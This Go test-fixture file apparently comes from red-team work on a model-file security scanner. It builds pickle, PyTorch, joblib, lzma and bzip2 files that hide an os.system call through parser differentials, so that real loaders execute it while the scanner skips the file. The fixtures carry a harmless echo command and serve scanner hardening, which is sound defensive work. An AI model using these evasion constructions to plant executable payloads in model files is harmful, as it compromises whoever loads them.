package testgen

import (
	"archive/tar"
	"bytes"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
)

// Second red-team hunt (see HUNT2.md): container and stream-level differentials, where the real
// loader (CPython 3.11 pickle / pickle.py, torch 1.13 torch.load, joblib 1.2) runs a payload
// that aisec never parses. Every case was confirmed with a marker command; the fixtures here
// carry only the package's harmless Cmd.

const fmtBzip2 = "bzip2" // format.Bzip2; case.go has no constant for it

// hunt2Cases are the confirmed container and stream bypasses with the harmless payload.
func hunt2Cases() []Case {
	return hunt2CasesFor(Cmd)
}

// hunt2CasesFor builds the bypass fixtures around one shell command, so that a verification
// harness can substitute a marker command. The bzip2 case always carries Cmd (its stream is a
// constant: Go has no bzip2 writer).
func hunt2CasesFor(cmd string) []Case {
	mk := func(name, format, technique string, data []byte, broken bool) Case {
		return Case{Name: name, Technique: technique, Data: data, Malicious: true, Format: format, Broken: broken}
	}
	p0 := h2P0(cmd)
	return []Case{
		mk("hunt2_sniff_memoize_dup_put.pkl", FmtPickle, "LONG_BINPUT 5000 twice then MEMOIZE then BINGET 1: CPython's MEMOIZE key is the number of distinct memo keys (1), LooksLikePickle counts every PUT of a key >= 4096 (2), so its trial walk fails before any global and the file is skipped as data", h2Plain(h2MemoDup, cmd), true), // pickletools is stricter than the unpicklers
		mk("hunt2_sniff_int_nul.pkl", FmtPickle, "INT line \"\\x00\": C _pickle parses it with strtol, which stops at the NUL and accepts it as 0; LooksLikePickle and the parser reject it, so the file is skipped as data (same with NUL in LONG, FLOAT, PUT lines)", h2Plain(h2IntNUL, cmd), true),                                         // pickletools is stricter than the unpicklers
		mk("hunt2_sniff_float_signed_nan.pkl", FmtPickle, "FLOAT line \"-nan\": PyOS_string_to_double accepts signed nan, Go's ParseFloat does not; the file is skipped as data", h2Plain(h2FloatNaN, cmd), false),
		mk("hunt2_joblib_float_space.joblib", FmtPickle, "FLOAT line \" 1.5\": joblib unpickles with the pure-Python pickle._Unpickler, whose float() accepts spaces; the file is skipped as data", h2Plain([]byte("F 1.5\n0"), cmd), false),
		mk("hunt2_joblib_float_underscore.joblib", FmtPickle, "FLOAT line \"1_5\": pure-Python float() accepts PEP 515 underscores; skipped as data", h2Plain([]byte("F1_5\n0"), cmd), false),
		mk("hunt2_joblib_float_overflow.joblib", FmtPickle, "FLOAT line \"1e999\": pure-Python float() gives inf (C _pickle raises); skipped as data", h2Plain([]byte("F1e999\n0"), cmd), false),
		mk("hunt2_torch_zip_sniff_memoize.pt", FmtPyTorchZip, "PyTorch zip whose data.pkl starts with the MEMOIZE divergence: the member sniffs as data and is silently dropped; torch.load runs it", h2StoredZip(h2TorchData(h2MemoDup, p0), h2ZipOpts{}), true), // pickletools is stricter than the unpicklers
		mk("hunt2_torch_zip_int_nul.pt", FmtPyTorchZip, "PyTorch zip whose data.pkl starts with INT \"\\x00\": skipped as data by the sniffer and rejected by the parser; torch.load runs it", h2StoredZip(h2TorchData(h2IntNUL, p0), h2ZipOpts{}), true),         // pickletools is stricter than the unpicklers
		mk("hunt2_torch_zip_stored_short.pt", FmtPyTorchZip, "stored data.pkl whose compressed size is 1 while its size is the full pickle, with a non-zero DOS time: miniz checks stored sizes with a 32-bit read of method+time, so the check is skipped, and it reads uncompressed-size bytes; aisec reads 1 byte", h2StoredZip(h2TorchData(nil, p0), h2ZipOpts{shortStored: true}), true),
		mk("hunt2_torch_zip64_locator_split.pt", FmtPyTorchZip, "two central directories: the zip64 record just before the locator (which Python's zipfile and aisec read) lists a benign archive, the record the locator's offset names (which miniz/torch reads) lists data.pkl with os.system", h2Zip64Split(cmd), false),
		mk("hunt2_legacy_stream_sniff_gap.pt", FmtPyTorchLegacy, "legacy torch file (magic, 1001, sys_info, data, keys) whose 4th pickle starts with the MEMOIZE divergence: aisec stops at the 3rd pickle and reports nothing; torch unpickles the 4th", h2LegacyStream(p0), true), // pickletools is stricter than the unpicklers
		mk("hunt2_legacy_tar_storage_views.tar", FmtPyTorchTar, "pre-1.0 torch tar: the storages member is pickle, pickle, raw storage (int64 count + bytes), then the storage_views pickle; aisec stops at the raw bytes, torch unpickles storage_views (os.system)", h2LegacyTar(p0), false),
		mk("hunt2_joblib_zf_compat.joblib", FmtZlib, "joblib <= 0.9.3 'ZF' file: 'ZF' + hex length padded to 19 + zlib stream; joblib.load decompresses and unpickles it, aisec skips it as data", h2ZFile(p0), false),
		mk("hunt2_joblib_lzma_dict3m.joblib", FmtLZMA, ".lzma (alone) stream with a 3 MiB dictionary (2^21+2^20, valid for liblzma): aisec's LZMA sniff wants a power of two and skips the file as data; joblib picks lzma by the 0x5d00 prefix", h2LZMAOddDict(p0), false),
		mk("hunt2_joblib_bz2_empty_first.joblib", fmtBzip2, "an empty bzip2 stream, then a bzip2 stream holding the pickle: bz2.BZ2File reads both, aisec's bzip2 sniff wants a block magic right after BZh9 and skips the file as data", h2Bz2EmptyFirst(), false),
	}
}

// Divergent pickle prefixes: each leaves the unpickler's stack empty.
var (
	h2MemoDup  = []byte("\x80\x02Nr\x88\x13\x00\x00r\x88\x13\x00\x00\x94h\x0100")
	h2IntNUL   = []byte("I\x00\n0")
	h2FloatNaN = []byte("F-nan\n0")
)

// h2Su is SHORT_BINUNICODE s.
func h2Su(s string) []byte { return append([]byte{0x8c, byte(len(s))}, s...) }

// h2P4 is os.system(cmd) with STACK_GLOBAL, leaving the result on the stack.
func h2P4(cmd string) []byte {
	return concat(h2Su("os"), h2Su("system"), []byte{0x93}, h2Su(cmd), []byte{0x85, 'R'})
}

// h2P0 is os.system(cmd) in protocol 0 opcodes, leaving the result on the stack.
func h2P0(cmd string) []byte {
	return []byte("cos\nsystem\n(S'" + cmd + "'\ntR")
}

// h2Plain is prefix, os.system(cmd), STOP.
func h2Plain(prefix []byte, cmd string) []byte {
	return concat(prefix, h2P4(cmd), []byte("."))
}

// h2TorchData is a data.pkl: prefix, the call, POP, then an empty dict as the checkpoint.
func h2TorchData(prefix, call []byte) []byte {
	if prefix == nil {
		prefix = []byte("\x80\x02")
	}
	return concat(prefix, call, []byte("0}."))
}

// h2Entry is one member of the hand-written archives below.
type h2Entry struct {
	name string
	data []byte
}

type h2ZipOpts struct {
	shortStored bool // first member: compressed size 1 in both headers, DOS time 1
}

func h2Local(e h2Entry, comp uint32, time uint16) []byte {
	b := make([]byte, 30, 30+len(e.name))
	binary.LittleEndian.PutUint32(b, 0x04034b50)
	binary.LittleEndian.PutUint16(b[4:], 20)
	binary.LittleEndian.PutUint16(b[10:], time)
	binary.LittleEndian.PutUint16(b[12:], 0x21) // 1980-01-01
	binary.LittleEndian.PutUint32(b[14:], crc32.ChecksumIEEE(e.data))
	binary.LittleEndian.PutUint32(b[18:], comp)
	binary.LittleEndian.PutUint32(b[22:], uint32(len(e.data)))
	binary.LittleEndian.PutUint16(b[26:], uint16(len(e.name)))
	return append(b, e.name...)
}

func h2Central(e h2Entry, comp uint32, time uint16, off int) []byte {
	b := make([]byte, 46, 46+len(e.name))
	binary.LittleEndian.PutUint32(b, 0x02014b50)
	binary.LittleEndian.PutUint16(b[4:], 20)
	binary.LittleEndian.PutUint16(b[6:], 20)
	binary.LittleEndian.PutUint16(b[12:], time)
	binary.LittleEndian.PutUint16(b[14:], 0x21)
	binary.LittleEndian.PutUint32(b[16:], crc32.ChecksumIEEE(e.data))
	binary.LittleEndian.PutUint32(b[20:], comp)
	binary.LittleEndian.PutUint32(b[24:], uint32(len(e.data)))
	binary.LittleEndian.PutUint16(b[28:], uint16(len(e.name)))
	binary.LittleEndian.PutUint32(b[42:], uint32(off))
	return append(b, e.name...)
}

// h2Members writes local headers and stored data starting at base; it returns the bytes and
// the central directory for them.
func h2Members(es []h2Entry, base int, o h2ZipOpts) (body, dir []byte) {
	for i, e := range es {
		comp, time := uint32(len(e.data)), uint16(0)
		if i == 0 && o.shortStored {
			comp, time = 1, 1
		}
		off := base + len(body)
		body = append(body, h2Local(e, comp, time)...)
		body = append(body, e.data...)
		dir = append(dir, h2Central(e, comp, time, off)...)
	}
	return body, dir
}

func h2EOCD(n, size, off int) []byte {
	b := make([]byte, 22)
	binary.LittleEndian.PutUint32(b, 0x06054b50)
	binary.LittleEndian.PutUint16(b[8:], uint16(n))
	binary.LittleEndian.PutUint16(b[10:], uint16(n))
	binary.LittleEndian.PutUint32(b[12:], uint32(size))
	binary.LittleEndian.PutUint32(b[16:], uint32(off))
	return b
}

func h2Zip64EOCD(n, size, off int) []byte {
	b := make([]byte, 56)
	binary.LittleEndian.PutUint32(b, 0x06064b50)
	binary.LittleEndian.PutUint64(b[4:], 44)
	binary.LittleEndian.PutUint16(b[12:], 45)
	binary.LittleEndian.PutUint16(b[14:], 45)
	binary.LittleEndian.PutUint64(b[24:], uint64(n))
	binary.LittleEndian.PutUint64(b[32:], uint64(n))
	binary.LittleEndian.PutUint64(b[40:], uint64(size))
	binary.LittleEndian.PutUint64(b[48:], uint64(off))
	return b
}

func h2Zip64Locator(at int) []byte {
	b := make([]byte, 20)
	binary.LittleEndian.PutUint32(b, 0x07064b50)
	binary.LittleEndian.PutUint64(b[8:], uint64(at))
	binary.LittleEndian.PutUint32(b[16:], 1) // one disk, as miniz requires
	return b
}

// h2TorchMembers is the smallest archive torch 1.13 loads: data.pkl and version.
func h2TorchMembers(dataPkl []byte) []h2Entry {
	return []h2Entry{{"archive/data.pkl", dataPkl}, {"archive/version", []byte("3\n")}}
}

// h2StoredZip is a stored PyTorch zip holding data.pkl.
func h2StoredZip(dataPkl []byte, o h2ZipOpts) []byte {
	body, dir := h2Members(h2TorchMembers(dataPkl), 0, o)
	return concat(body, dir, h2EOCD(2, len(dir), len(body)))
}

// h2Zip64Split lays out: members A (benign), members B (os.system), directory B, zip64 end B,
// directory A, zip64 end A, a locator naming zip64 end B, and an end record for A. Python's
// zipfile reads the zip64 record right before the locator (A); miniz the one at the locator's
// offset (B). The zip64 end records also stop a reader that runs on past a directory's end.
func h2Zip64Split(cmd string) []byte {
	bodyA, dirA := h2Members(h2TorchMembers([]byte("\x80\x02}q\x00.")), 0, h2ZipOpts{})
	bodyB, dirB := h2Members(h2TorchMembers(h2TorchData(nil, h2P0(cmd))), len(bodyA), h2ZipOpts{})
	out := concat(bodyA, bodyB)
	dirBAt := len(out)
	out = append(out, dirB...)
	endBAt := len(out)
	out = append(out, h2Zip64EOCD(2, len(dirB), dirBAt)...)
	dirAAt := len(out)
	out = append(out, dirA...)
	out = append(out, h2Zip64EOCD(2, len(dirA), dirAAt)...)
	out = append(out, h2Zip64Locator(endBAt)...)
	return append(out, h2EOCD(2, len(dirA), dirAAt)...)
}

// h2LegacyStream is the five-pickle legacy torch layout with the payload in the 4th pickle.
func h2LegacyStream(call []byte) []byte {
	magic := []byte("\x80\x02\x8a\x0al\xfc\x9cF\xf9 j\xa8P\x19.") // 0x1950a86a20f9469cfc6c
	proto := []byte("\x80\x02M\xe9\x03.")                         // 1001
	sysInfo := []byte("\x80\x02}q\x00.")
	keys := []byte("\x80\x02]q\x00.")
	return concat(magic, proto, sysInfo, h2TorchData(h2MemoDup, call), keys)
}

// h2LegacyTar is the pre-1.0 tar layout; storages holds one empty FloatStorage, then the
// storage_views pickle, which runs the call and yields [].
func h2LegacyTar(call []byte) []byte {
	empty := []byte("\x80\x02}q\x00.")
	storages := concat([]byte("\x80\x02K\x01."),
		[]byte("\x80\x02K\x00X\x03\x00\x00\x00cpuctorch\nFloatStorage\n\x87."),
		make([]byte, 8), // _new_with_file: int64 element count 0, no data
		[]byte("\x80\x02"), call, []byte("0]."))
	var buf bytes.Buffer
	w := tar.NewWriter(&buf)
	for _, m := range []h2Entry{{"sys_info", empty}, {"pickle", empty}, {"storages", storages}, {"tensors", []byte("\x80\x02K\x00.")}} {
		_ = w.WriteHeader(&tar.Header{Name: m.name, Mode: 0o644, Size: int64(len(m.data)), Format: tar.FormatUSTAR}) // in-memory: no error
		_, _ = w.Write(m.data)
	}
	_ = w.Close()
	return buf.Bytes()
}

// h2ZFile is joblib's pre-0.9.3 format: "ZF", the hex length left-justified to 19, zlib data.
func h2ZFile(call []byte) []byte {
	p := concat([]byte("\x80\x02"), call, []byte("."))
	return concat([]byte(fmt.Sprintf("ZF%-19s", fmt.Sprintf("%#x", len(p)))), zlibBytes(p))
}

// h2LZMAOddDict is a .lzma stream whose header declares a 3 MiB dictionary.
func h2LZMAOddDict(call []byte) []byte {
	b := lzmaBytes(concat([]byte("\x80\x02"), call, []byte(".")))
	binary.LittleEndian.PutUint32(b[1:5], 3<<20)
	return b
}

// h2Bz2EmptyFirstHex is bz2.compress(b"") + bz2.compress(b"\x80\x02cos\nsystem\n(S'echo
// aisec-test'\ntR.") from CPython 3.11.
const h2Bz2EmptyFirstHex = "425a683917724538509000000000425a68393141592653593c4294b5000011d3c0101040c318002a628c20400020002226834060214c269a034c49572783d2a5fde603ef4834c4f638bca7046067e2ee48a70a1207885296a0"

func h2Bz2EmptyFirst() []byte {
	b, _ := hex.DecodeString(h2Bz2EmptyFirstHex) // constant, valid hex
	return b
}
